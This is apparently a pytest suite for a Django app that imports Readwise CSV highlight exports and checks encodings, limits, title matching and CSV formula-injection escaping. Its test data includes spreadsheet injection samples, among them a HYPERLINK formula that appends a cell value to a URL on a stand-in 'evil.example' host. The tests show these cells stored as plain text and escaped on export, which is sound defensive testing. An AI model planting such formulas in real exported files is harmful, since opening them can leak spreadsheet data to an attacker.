"""annotations.readwise: Readwise's CSV export, parsed (no database) and imported
(annotations.restore), posts found by URL or title and passages by their quote."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from annotations import export, readwise
from annotations.incoming import Limits, Refused, decode
from annotations.models import Annotation, Colour, Kind, State
from annotations.restore import READWISE, import_file
from archive.importer import import_paths
from archive.models import Post
from library import state

EXPORT = Path(__file__).parent / "data" / "readwise-export.csv"
LIMITS = Limits(items=100, quote_chars=10_000, note_chars=20_000, tags=20, tag_chars=50)
HEADER = EXPORT.read_text("utf-8").splitlines()[0]


def rows(text: str | None = None, limits: Limits = LIMITS) -> dict:
    return {row.where["row"]: row for row in readwise.parse(text or EXPORT.read_text(), limits)}


def csv_text(*data_rows: dict, more_columns=()) -> str:
    """A Readwise export of these rows (cells by column name, the rest empty)."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=[*HEADER.split(","), *more_columns], restval="")
    writer.writeheader()
    writer.writerows(data_rows)
    return out.getvalue()


# --- the parser, without the database ---------------------------------------------------------


def test_the_export_is_told_by_its_header():
    assert readwise.looks_like(readwise.header_of(EXPORT.read_text()))
    assert readwise.looks_like(readwise.header_of("Highlight,Title,Book Title\n"))
    assert not readwise.looks_like(readwise.header_of("Highlight,Title,Author,URL\n"))
    with pytest.raises(Refused, match="not a Readwise export"):
        readwise.parse("a,b\n1,2\n", LIMITS)


def test_each_cell_becomes_its_part_of_the_annotation():
    found = rows()
    highlight = found[2].changes
    assert (highlight.kind, highlight.body, highlight.target.exact) == (
        Kind.HIGHLIGHT,
        "",
        "增长放缓",
    )
    assert (highlight.target.start, highlight.target.end) == (None, None)
    assert highlight.colour == Colour.YELLOW and highlight.tags == ("经济",)
    assert highlight.created == datetime(2024, 3, 4, 5, 6, 7, tzinfo=UTC)
    assert (found[2].title, found[2].author, found[2].own_tags) == ("测试文章", "测试员", ("待读",))
    note = found[3].changes
    assert note.kind == Kind.NOTE and note.body == "这是**结构性**的，不是周期性的。"
    assert note.colour == Colour.YELLOW  # orange: the nearest of the five
    assert note.tags == ("经济", "结构") and found[3].own_tags == ("待读", "经济学")
    assert found[5].changes.colour == Colour.PURPLE


def test_a_title_that_is_a_url_names_the_post_by_it():
    found = rows()
    assert found[5].changes.target.source == "https://www.example.org/economy/?utm_campaign=feed"
    assert found[2].changes.target.source == ""  # found by title


def test_a_url_column_wins_over_the_title():
    row = {"Highlight": "x", "Book Title": "https://example.org/t", "URL": "https://example.org/u"}
    text = csv_text(row, more_columns=["URL"])
    assert rows(text)[2].changes.target.source == "https://example.org/u"


def test_formula_cells_are_kept_as_the_text_they_are():
    row = rows()[8].changes
    assert row.body == '=HYPERLINK("https://evil.example/?q="&A1,"点我")'
    assert row.tags == ("@risk", "+1", "-x")
    cells = rows(csv_text({"Highlight": "=1+2", "Book Title": "\t-3", "Note": "\r@SUM(A1)"}))[2]
    assert (cells.changes.target.exact, cells.title, cells.changes.body) == (
        "=1+2",
        "-3",
        "@SUM(A1)",
    )


def test_an_empty_highlight_and_a_date_that_is_none_are_invalid_naming_the_column():
    found = rows()
    assert [(e["field"], e["message"]) for e in found[7].errors] == [("Highlight", "is empty")]
    assert [e["field"] for e in found[9].errors] == ["Highlighted at"]
    assert "yesterday at noon" in found[9].errors[0]["message"]
    assert found[7].changes is None and found[9].changes is None


def test_readwise_s_spelled_out_dates_are_read():
    row = rows(csv_text({"Highlight": "x", "Highlighted at": "May 4, 2024 10:05 AM"}))[2]
    assert row.changes.created == datetime(2024, 5, 4, 10, 5, tzinfo=UTC)


def test_a_row_with_a_nul_or_the_wrong_number_of_cells_is_invalid_and_the_others_parse():
    text = csv_text({"Highlight": "a\x00b"}, {"Highlight": "fine"}) + "only,three,cells\r\n"
    found = rows(text)
    assert [(e["field"], e["message"]) for e in found[2].errors] == [
        ("Highlight", "holds a NUL or an unpaired surrogate character")
    ]
    assert found[3].changes.target.exact == "fine"
    assert found[4].errors[0]["message"] == "has 3 cells where the header has 11"


def test_blank_lines_are_passed_over_and_rows_keep_the_spreadsheets_numbers():
    text = (
        csv_text({"Highlight": "a"})
        + "\r\n,,,,,,,,,,\r\n"
        + csv_text({"Highlight": "b"})[len(HEADER) + 2 :]
    )
    assert {n: r.changes.target.exact for n, r in rows(text).items()} == {2: "a", 5: "b"}


def test_quotes_notes_and_tags_are_held_to_the_limits():
    text = csv_text(
        {"Highlight": "长" * 11, "Note": "n" * 6, "Tags": "a,b,c", "Document tags": "x" * 7}
    )
    small = replace(LIMITS, quote_chars=10, note_chars=5, tags=2, tag_chars=6)
    messages = {(e["field"], e["message"]) for e in rows(text, small)[2].errors}
    assert messages == {
        ("Highlight", "quotes are limited to 10 characters"),
        ("Note", "notes are limited to 5 characters"),
        ("Tags", "at most 2 tags"),
        ("Document tags", "tags are limited to 6 characters"),
    }


def test_a_million_rows_are_refused_at_the_limit_without_reading_them_all():
    text = csv_text(*({"Highlight": f"h{n}"} for n in range(1_000_000)))
    with pytest.raises(Refused, match=r"more than 100 rows \(PIZHU_MAX_RESTORE_ITEMS\)"):
        readwise.parse(text, LIMITS)


def test_an_unclosed_quote_refuses_the_file_naming_the_row():
    text = csv_text({"Highlight": "a"}) + '"never closed,' + "x" * 200_000 + "\r\n"
    with pytest.raises(Refused, match=r"row 3: .*an unclosed quote"):
        readwise.parse(text, LIMITS)


# --- encodings -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "encoded",
    [
        lambda text: text.encode("utf-8"),
        lambda text: b"\xef\xbb\xbf" + text.encode("utf-8"),
        lambda text: text.encode("utf-16"),  # with its byte-order mark
        lambda text: b"\xfe\xff" + text.encode("utf-16-be"),
    ],
    ids=["UTF-8", "UTF-8 with BOM", "UTF-16 LE with BOM", "UTF-16 BE with BOM"],
)
def test_utf8_and_utf16_with_a_byte_order_mark_read_alike(encoded):
    text = EXPORT.read_text("utf-8")
    assert decode(encoded(text)) == text


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ("增长放缓,测试文章".encode("gbk"), r"is not UTF-8: byte 0 \(0xD4\) cannot be read"),
        ("Highlight,Book Title\n".encode("utf-16-le"), "UTF-16 without a byte-order mark"),
        (b"\xff\xfe\x00\xd8", r"is not UTF-16: byte 2"),  # a lone surrogate
    ],
    ids=["GBK", "UTF-16 without BOM", "broken UTF-16"],
)
def test_other_encodings_are_refused_naming_the_problem(raw, message):
    with pytest.raises(Refused, match=message):
        decode(raw)


# --- imported ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_export_imports_with_its_passages_anchored(owner, post):
    report = import_file(owner, EXPORT.read_bytes())

    assert report.format == READWISE
    assert (report.restored, report.reanchored, report.orphaned) == (5, 0, [])
    passages = Annotation.objects.filter(post=post)
    assert passages.count() == 5
    for annotation in passages:
        assert annotation.state == State.ANCHORED
        assert post.text[annotation.start : annotation.end] == annotation.exact
    # Readwise joined two paragraphs with a space: found where the text breaks the line.
    assert passages.filter(exact="和经济无关。\n第二段讲中国的经济").exists()
    formula = passages.get(exact="第一段说了一些话")
    assert formula.body == '=HYPERLINK("https://evil.example/?q="&A1,"点我")'
    assert formula.colour == Colour.PINK


@pytest.mark.django_db
def test_the_report_names_rows_missing_invalid_with_reasons(owner, post):
    report = import_file(owner, EXPORT.read_bytes())
    [missing] = report.missing_posts
    assert (missing["row"], missing["title"], missing["exact"]) == (
        6,
        "一篇不存在的文章",
        "某句不在文库里的话",
    )
    assert missing["reason"] == "no post with this title in the archive"
    assert [i["row"] for i in report.invalid] == [7, 9]


@pytest.mark.django_db
def test_document_tags_become_my_own_tags_of_the_post_and_nobody_elses(owner, other, post):
    state.change(other, post.pk, {"tags": ["别人的"]})
    report = import_file(owner, EXPORT.read_bytes())
    assert report.own_tags == 1
    assert state.get(owner, post.pk).tag_names == ["待读", "经济学"]
    assert state.get(other, post.pk).tag_names == ["别人的"]


@pytest.mark.django_db
def test_importing_the_export_twice_adds_nothing(owner, post):
    import_file(owner, EXPORT.read_bytes())
    again = import_file(owner, EXPORT.read_bytes())
    assert (again.restored, again.reanchored, again.own_tags, again.duplicates) == (0, 0, 0, 5)
    assert Annotation.objects.count() == 5
    assert state.get(owner, post.pk).tag_names == ["待读", "经济学"]


def write_post(archive_dir, name: str, title: str, url: str, body: str, author="测试员"):
    archive_dir.write(name=name, title=title, url=url, author=author, body=f"<p>{body}</p>")


@pytest.mark.django_db
def test_a_title_written_in_another_width_case_or_spacing_finds_its_post(owner, archive_dir):
    write_post(
        archive_dir,
        "2024-01-03-a.md",
        "The Economy Today",
        "https://example.org/t",
        "Growth slowed.",
    )
    import_paths([archive_dir])
    text = csv_text(
        {"Highlight": "Growth slowed", "Book Title": "ＴＨＥ  economy today"},
    )
    report = import_file(owner, text.encode())
    assert (report.restored, report.missing_posts) == (1, [])
    assert Annotation.objects.get().post.title == "The Economy Today"


@pytest.mark.django_db
def test_posts_sharing_a_title_are_told_apart_by_author_then_quote_or_reported(owner, archive_dir):
    write_post(archive_dir, "2024-01-03-a.md", "日报", "https://example.org/a", "甲说了话。", "甲")
    write_post(archive_dir, "2024-01-04-b.md", "日报", "https://example.org/b", "乙说了话。", "乙")
    write_post(archive_dir, "2024-01-05-c.md", "日报", "https://example.org/c", "乙说了话。", "丙")
    import_paths([archive_dir])
    text = csv_text(
        {"Highlight": "说了话", "Book Title": "日报", "Book Author": "甲"},
        {"Highlight": "乙说了话", "Book Title": "日报"},
        {"Highlight": "说了话", "Book Title": "日报"},
    )
    report = import_file(owner, text.encode())

    found = dict(Annotation.objects.values_list("exact", "post__url"))
    assert found == {"说了话": "https://example.org/a"}  # the author decided
    [ambiguous_quote, ambiguous] = report.missing_posts
    assert ambiguous_quote["row"] == 3  # 乙说了话 stands in b and c alike
    assert ambiguous["row"] == 4 and ambiguous["reason"].startswith("3 posts have this title")
    assert Post.objects.count() == 3


# --- notes out in the same shape ------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://x")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'=1", "plain"]
)
def test_an_escaped_cell_opens_with_nothing_a_spreadsheet_runs_and_comes_back_as_it_was(cell):
    escaped = readwise.escape_cell(cell)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert readwise.unescape_cell(escaped) == cell


def test_the_csv_export_has_no_formula_cell_and_round_trips_into_another_user(
    owner, other, post, make_annotation
):
    make_annotation(owner, "增长放缓", kind="note", body="=HYPERLINK(\"http://evil\")",
                    tags=["-risk", "经济"], colour="green")  # fmt: skip
    make_annotation(owner, "The third paragraph is in English")
    state.change(owner, post.pk, {"tags": ("@later",)})
    text = export.render(
        "csv", export.notes_for_export(owner), base_url="http://pizhu.test"
    ).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert '\'=HYPERLINK("http://evil")' in cells

    report = import_file(other, text.encode())
    assert report.restored == 2, report.as_dict()
    restored = {a.exact: a for a in Annotation.objects.filter(user=other)}
    note = restored["增长放缓"]
    assert (note.body, note.kind, note.colour) == ('=HYPERLINK("http://evil")', "note", "green")
    assert sorted(t.name for t in note.tags.all()) == ["-risk", "经济"]
    assert post.text[note.start : note.end] == "增长放缓"
    assert state.get(other, post.pk).tag_names == ["@later"]
    assert import_file(other, text.encode()).restored == 0  # twice adds nothing
